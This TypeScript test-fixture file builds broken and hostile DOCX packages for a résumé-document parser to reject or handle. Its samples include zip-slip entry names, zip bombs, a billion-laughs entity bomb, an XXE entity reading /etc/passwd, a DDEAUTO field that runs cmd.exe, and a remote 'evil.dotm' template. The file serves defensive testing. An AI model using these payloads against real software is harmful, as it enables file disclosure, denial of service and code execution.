import { strFromU8, strToU8, unzipSync, type Zippable, zipSync } from "fflate";
import { CASES } from "../laws/cases";
import type { Odd, Refused } from "./cases";

const CLASSIC = CASES.find(({ name }) => name === "word-classic")!.input as Uint8Array;
const MAIN = "word/document.xml";

type Parts = Record<string, Uint8Array>;

/** A good package, changed by `change`, zipped again. */
function changed(change: (parts: Parts) => void): Uint8Array {
  const parts = unzipSync(CLASSIC);
  change(parts);
  return zipSync(parts as Zippable, { mtime: "1980-01-01" });
}

/** A good package whose main part is edited as text. */
function edited(edit: (xml: string) => string): Uint8Array {
  return changed((parts) => {
    parts[MAIN] = strToU8(edit(strFromU8(parts[MAIN]!)));
  });
}

const withBody = (inner: string) =>
  edited((xml) => xml.replace(/<w:body>[\s\S]*<\/w:body>/u, () => `<w:body>${inner}</w:body>`));
const paragraph = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
const RESUME = [
  "Jo Vance",
  "jo.vance@example.com",
  "SUMMARY",
  "Project manager with ten years in clinics.",
  "EXPERIENCE",
  "Project Manager, Lakeside Clinics, 2018 to 2026",
  "EDUCATION",
  "BS Biology, State College, 2014",
]
  .map(paragraph)
  .join("");

/** Replaces bytes of the zip itself: names stand in it twice, in the entry's own header and in the directory. */
function rename(bytes: Uint8Array, from: string, to: string): Uint8Array {
  return Buffer.from(Buffer.from(bytes).toString("latin1").replaceAll(from, to), "latin1");
}

const extra = (parts: Parts, name: string, data: Uint8Array) => {
  parts[name] = data;
};

/** Bytes without a pattern, the same in every run. */
function noise(length: number): Uint8Array {
  let state = 42;
  return Uint8Array.from({ length }, () => {
    state = (Math.imul(state, 1103515245) + 12345) >>> 0;
    return state >>> 16;
  });
}

export const REFUSED: readonly Refused[] = [
  { what: "an empty file", make: () => new Uint8Array(0), code: "invalid-input" },
  { what: "text renamed .docx", make: () => strToU8("Jo Vance\nProject manager\n"), code: "unsupported-format" },
  {
    what: "a picture renamed .docx",
    make: () => Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10, ...noise(500)]),
    code: "unsupported-format",
  },
  { what: "a zip cut in half", make: () => CLASSIC.slice(0, CLASSIC.length / 2), code: "corrupt" },
  { what: "a zip cut by one byte", make: () => CLASSIC.slice(0, -1), code: "corrupt" },
  {
    what: "noise behind a zip's first bytes",
    make: () => Uint8Array.from([0x50, 0x4b, 3, 4, ...noise(4000)]),
    code: "corrupt",
  },
  { what: "deflated data with flipped bits", make: () => flipped(), code: "corrupt" },
  {
    what: "an archive that is no package",
    make: () => zipSync({ "a.txt": strToU8("hello") }),
    code: "unsupported-format",
  },
  {
    what: "a spreadsheet",
    make: () =>
      changed((parts) => {
        extra(parts, "xl/workbook.xml", strToU8("<workbook/>"));
        extra(parts, "_rels/.rels", strToU8(strFromU8(parts["_rels/.rels"]!).replace(MAIN, "xl/workbook.xml")));
      }),
    code: "unsupported-format",
  },
  {
    what: "an OpenDocument text",
    make: () =>
      zipSync({ mimetype: strToU8("application/vnd.oasis.opendocument.text"), "content.xml": strToU8("<a/>") }),
    code: "unsupported-format",
  },
  {
    what: "a package without its main part",
    make: () =>
      changed((parts) => {
        delete parts[MAIN];
      }),
    code: ["corrupt", "unsupported-format"],
  },
  {
    what: "a main part outside the package",
    make: () =>
      changed((parts) => {
        extra(
          parts,
          "_rels/.rels",
          strToU8(
            strFromU8(parts["_rels/.rels"]!).replace(
              'Target="word/document.xml"',
              'Target="https://example.com/document.xml" TargetMode="External"',
            ),
          ),
        );
      }),
    code: ["corrupt", "unsupported-format"],
  },
  {
    what: "a part that inflates to 100 MB",
    make: () => changed((parts) => extra(parts, "word/media/a.bin", new Uint8Array(100_000_000))),
    code: "too-large",
  },
  {
    what: "parts that inflate to 260 MB together",
    make: () =>
      changed((parts) => {
        const part = new Uint8Array(13_000_000);
        for (let at = 0; at < part.length; at += 200) part[at] = at;
        for (let index = 0; index < 20; index += 1) extra(parts, `word/media/${index}.bin`, part);
      }),
    code: "too-large",
  },
  {
    what: "a part deflated 1000 : 1",
    make: () => changed((parts) => extra(parts, "word/media/a.bin", new Uint8Array(30_000_000))),
    code: "too-large",
    detail: "zip-ratio",
  },
  { what: "an inflated size that is a lie", make: () => liar(), code: ["corrupt", "too-large"] },
  {
    what: "2,500 entries",
    make: () =>
      changed((parts) => {
        for (let index = 0; index < 2500; index += 1) extra(parts, `word/media/${index}.bin`, new Uint8Array(1));
      }),
    code: "too-large",
    detail: "zip-entries",
  },
  {
    what: "a part that is there twice",
    make: () =>
      rename(
        changed((parts) => extra(parts, "word/DOCUMENT.xmm", parts[MAIN]!)),
        "word/DOCUMENT.xmm",
        "word/document.xml",
      ),
    code: "corrupt",
  },
  {
    what: "parts whose names differ only in case",
    make: () => changed((parts) => extra(parts, "word/Document.xml", parts[MAIN]!)),
    code: "corrupt",
  },
  {
    what: "an entry above its folder",
    make: () => changed((parts) => extra(parts, "../../etc/evil", new Uint8Array(3))),
    code: "corrupt",
  },
  {
    what: "an entry with an absolute name",
    make: () => changed((parts) => extra(parts, "/etc/evil", new Uint8Array(3))),
    code: "corrupt",
  },
  {
    what: "an entry with a drive letter",
    make: () => changed((parts) => extra(parts, "C:\\evil", new Uint8Array(3))),
    code: "corrupt",
  },
  {
    what: "a DOCTYPE",
    make: () => edited((xml) => xml.replace("<w:document", "<!DOCTYPE w:document><w:document")),
    code: "corrupt",
    detail: "xml-doctype",
  },
  {
    what: "a billion laughs",
    make: () =>
      edited((xml) =>
        xml
          .replace(
            "<w:document",
            `<!DOCTYPE lolz [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, level) => `<!ENTITY ${"bcdefghij"[level]} "${`&${"abcdefghi"[level]};`.repeat(10)}">`).join("")}]><w:document`,
          )
          .replace("</w:body>", `${paragraph("&j;")}</w:body>`),
      ),
    code: "corrupt",
  },
  {
    what: "an entity that names a file",
    make: () =>
      edited((xml) =>
        xml
          .replace("<w:document", '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document')
          .replace("</w:body>", `${paragraph("&x;")}</w:body>`),
      ),
    code: "corrupt",
  },
  {
    what: "elements 20,000 deep",
    make: () => withBody(`${"<w:sdt><w:sdtContent>".repeat(10_000)}${"</w:sdtContent></w:sdt>".repeat(10_000)}`),
    code: "too-large",
    detail: "xml-depth",
  },
  {
    what: "two and a half million elements",
    make: () => withBody(`<w:p>${"<w:r/>".repeat(2_500_000)}</w:p>`),
    code: "too-large",
  },
  { what: "a tag that is never closed", make: () => edited((xml) => xml.replace("</w:body>", "")), code: "corrupt" },
  {
    what: "a character that XML does not know",
    make: () => edited((xml) => xml.replace("Marisol", "Mari&#0;sol")),
    code: "corrupt",
  },
  {
    what: "bytes that are no UTF-8",
    make: () =>
      changed((parts) => {
        parts[MAIN]!.set([0xff, 0xc0, 0xfe], 400);
      }),
    code: "corrupt",
  },
  { what: "a body without text", make: () => withBody("<w:p/>"), code: "no-text" },
  {
    what: "a file of the old .doc kind",
    make: () => Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...noise(4000)]),
    code: "unsupported-format",
  },
  {
    what: "a DOCX with a password",
    make: () =>
      Uint8Array.from([
        0xd0,
        0xcf,
        0x11,
        0xe0,
        0xa1,
        0xb1,
        0x1a,
        0xe1,
        ...new Uint8Array(504),
        ...Buffer.from("EncryptedPackage", "utf16le"),
        ...new Uint8Array(500),
      ]),
    code: "encrypted",
  },
  { what: "21 MB", make: () => new Uint8Array(21 * 1024 * 1024).fill(0x50), code: "too-large", detail: "input-bytes" },
];

export const ODD: readonly Odd[] = [
  { what: "strict OOXML", make: () => strict() },
  {
    what: "parts in UTF-16",
    make: () =>
      changed((parts) => {
        parts[MAIN] = utf16(strFromU8(parts[MAIN]!).replace('encoding="UTF-8"', 'encoding="UTF-16"'));
      }),
  },
  {
    what: "a byte order mark",
    make: () =>
      changed((parts) => {
        parts[MAIN] = Uint8Array.from([0xef, 0xbb, 0xbf, ...parts[MAIN]!]);
      }),
  },
  {
    what: "another prefix for the namespace",
    make: () => edited((xml) => xml.replaceAll("w:", "ns0:").replaceAll("xmlns:w=", "xmlns:ns0=")),
  },
  { what: "macros", make: () => macros(), message: /macro/iu },
  {
    what: "a template somewhere else",
    make: () =>
      changed((parts) => {
        extra(
          parts,
          "word/_rels/settings.xml.rels",
          strToU8(
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://example.com/evil.dotm" TargetMode="External"/></Relationships>',
          ),
        );
        extra(
          parts,
          "word/settings.xml",
          strToU8(
            strFromU8(parts["word/settings.xml"]!).replace("<w:zoom", '<w:attachedTemplate r:id="rId1"/><w:zoom'),
          ),
        );
      }),
    message: /template/iu,
  },
  {
    what: "a DDE field",
    make: () =>
      edited((xml) =>
        xml.replace(
          "</w:body>",
          '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body>',
        ),
      ),
    message: /DDE|field/iu,
  },
  {
    what: "nothing but the parts that must be there",
    make: () =>
      changed((parts) => {
        for (const name of Object.keys(parts)) if (/styles|settings|theme|numbering/u.test(name)) delete parts[name];
      }),
  },
  {
    what: "a body without section properties",
    make: () => edited((xml) => xml.replace(/<w:sectPr[\s\S]*<\/w:sectPr>/u, "")),
  },
  {
    what: "styles based on each other",
    make: () =>
      changed((parts) =>
        extra(
          parts,
          "word/styles.xml",
          strToU8(
            strFromU8(parts["word/styles.xml"]!)
              .replace('<w:basedOn w:val="Normal"/>', '<w:basedOn w:val="Heading1"/>')
              .replace(/(w:styleId="Heading1">.*?<w:basedOn w:val=")Normal/u, "$1ListParagraph"),
          ),
        ),
      ),
  },
  {
    what: "50,000 paragraphs",
    make: () => withBody(RESUME + paragraph("One more line about a project.").repeat(50_000)),
    mayRefuse: true,
  },
  {
    what: "a line of a million letters",
    make: () => withBody(RESUME + paragraph("a".repeat(1_000_000))),
    mayRefuse: true,
  },
  {
    what: "10,000 runs in a paragraph",
    make: () => withBody(`${RESUME}<w:p>${"<w:r><w:t>x </w:t></w:r>".repeat(10_000)}</w:p>`),
  },
  { what: "tables nested 30 deep", make: () => withBody(RESUME + nested(30)), mayRefuse: true },
  {
    what: "a table of 20,000 cells",
    make: () =>
      withBody(
        `${RESUME}<w:tbl><w:tblPr/><w:tblGrid/>${`<w:tr>${`<w:tc>${paragraph("x")}</w:tc>`.repeat(20)}</w:tr>`.repeat(1000)}</w:tbl><w:p/>`,
      ),
  },
  {
    what: "zero-width and right-to-left marks in headings",
    make: () => withBody(RESUME.replace("EXPERIENCE", "EX\u200BPER\u200FIENCE")),
  },
  {
    what: "a relationship to itself",
    make: () =>
      changed((parts) =>
        extra(
          parts,
          "word/_rels/document.xml.rels",
          strToU8(
            strFromU8(parts["word/_rels/document.xml.rels"]!).replace(
              "</Relationships>",
              '<Relationship Id="rId900" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/header" Target="document.xml"/></Relationships>',
            ),
          ),
        ),
      ),
  },
  {
    what: "a zip inside",
    make: () =>
      changed((parts) =>
        extra(parts, "word/embeddings/a.zip", zipSync({ "b.zip": zipSync({ "c.bin": new Uint8Array(1_000_000) }) })),
      ),
  },
  { what: "a comment at the end of the zip", make: () => commented() },
  { what: "entries stored, not deflated", make: () => zipSync(unzipSync(CLASSIC) as Zippable, { level: 0 }) },
  {
    what: "a number of a list that is not defined",
    make: () =>
      withBody(
        `${RESUME}<w:p><w:pPr><w:numPr><w:ilvl w:val="99"/><w:numId w:val="4711"/></w:numPr></w:pPr><w:r><w:t>Item</w:t></w:r></w:p>`,
      ),
  },
  {
    what: "lengths that are no numbers",
    make: () =>
      edited((xml) =>
        xml.replaceAll('w:w="12240"', 'w:w="NaN"').replaceAll('w:before="80"', 'w:before="999999999999"'),
      ),
  },
  { what: "one paragraph only", make: () => withBody(paragraph("Jo Vance, project manager")) },
];

function flipped(): Uint8Array {
  const bytes = CLASSIC.slice();
  // Within the deflated data of the last entry.
  for (let at = 0; at < 40; at += 1) bytes[Math.floor(bytes.length * 0.6) + at * 7]! ^= 0x55;
  return bytes;
}

/** The main part says in both headers that it inflates to ten bytes. */
function liar(): Uint8Array {
  const bytes = changed(() => {}).slice();
  const view = new DataView(bytes.buffer);
  const size = unzipSync(CLASSIC)[MAIN]!.length;
  for (let at = 0; at + 4 <= bytes.length; at += 1) if (view.getUint32(at, true) === size) view.setUint32(at, 10, true);
  return bytes;
}

function strict(): Uint8Array {
  return changed((parts) => {
    for (const [name, data] of Object.entries(parts)) {
      const text = strFromU8(data)
        .replaceAll(
          "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
          "http://purl.oclc.org/ooxml/wordprocessingml/main",
        )
        .replaceAll(
          "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
          "http://purl.oclc.org/ooxml/officeDocument/relationships",
        );
      parts[name] = strToU8(name === MAIN ? text.replace("<w:document ", '<w:document w:conformance="strict" ') : text);
    }
  });
}

function macros(): Uint8Array {
  return changed((parts) => {
    extra(parts, "word/vbaProject.bin", noise(2000));
    extra(
      parts,
      "[Content_Types].xml",
      strToU8(
        strFromU8(parts["[Content_Types].xml"]!)

          .replace(
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
          )
          .replace(
            "</Types>",
            '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
          ),
      ),
    );
    extra(
      parts,
      "word/_rels/document.xml.rels",
      strToU8(
        strFromU8(parts["word/_rels/document.xml.rels"]!).replace(
          "</Relationships>",
          '<Relationship Id="rId901" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
        ),
      ),
    );
  });
}

function commented(): Uint8Array {
  const bytes = Uint8Array.from([...CLASSIC, ...strToU8("a comment")]);
  bytes[CLASSIC.length - 2] = 9;
  return bytes;
}

function nested(depth: number): string {
  const open = '<w:tbl><w:tblPr/><w:tblGrid><w:gridCol w:w="5000"/></w:tblGrid><w:tr><w:tc><w:tcPr/>';
  return `${open.repeat(depth)}${paragraph("deep")}${"<w:p/></w:tc></w:tr></w:tbl>".repeat(depth)}<w:p/>`;
}

function utf16(text: string): Uint8Array {
  return new Uint8Array(Buffer.from(`\uFEFF${text}`, "utf16le"));
}
